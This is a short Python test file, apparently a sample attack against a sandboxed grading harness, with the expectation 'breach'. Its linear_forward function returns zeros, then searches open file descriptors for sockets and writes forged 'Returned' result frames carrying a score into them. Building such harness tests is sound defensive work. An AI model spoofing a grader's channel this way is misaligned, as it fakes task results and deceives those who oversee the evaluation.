"""Sends well-formed answers with a score, for many numbers of exchanges.

expect: breach
"""

import os
import stat
import struct

import msgpack
import numpy as np


def frame(seq, out):
    tree = ["t", "Returned", seq, ["t", ["a", "float64", *out.shape], None], ["t", ["t"], ["d"]]]
    packed = msgpack.packb([[out.nbytes], tree])
    return struct.pack("<4sIQ", b"LWF1", len(packed), out.nbytes) + packed + out.tobytes()


def linear_forward(x, W, b):
    out = np.zeros((len(x), len(W)))
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, b"".join(frame(seq, out) for seq in range(20)))
        except OSError:
            pass
    return out, None
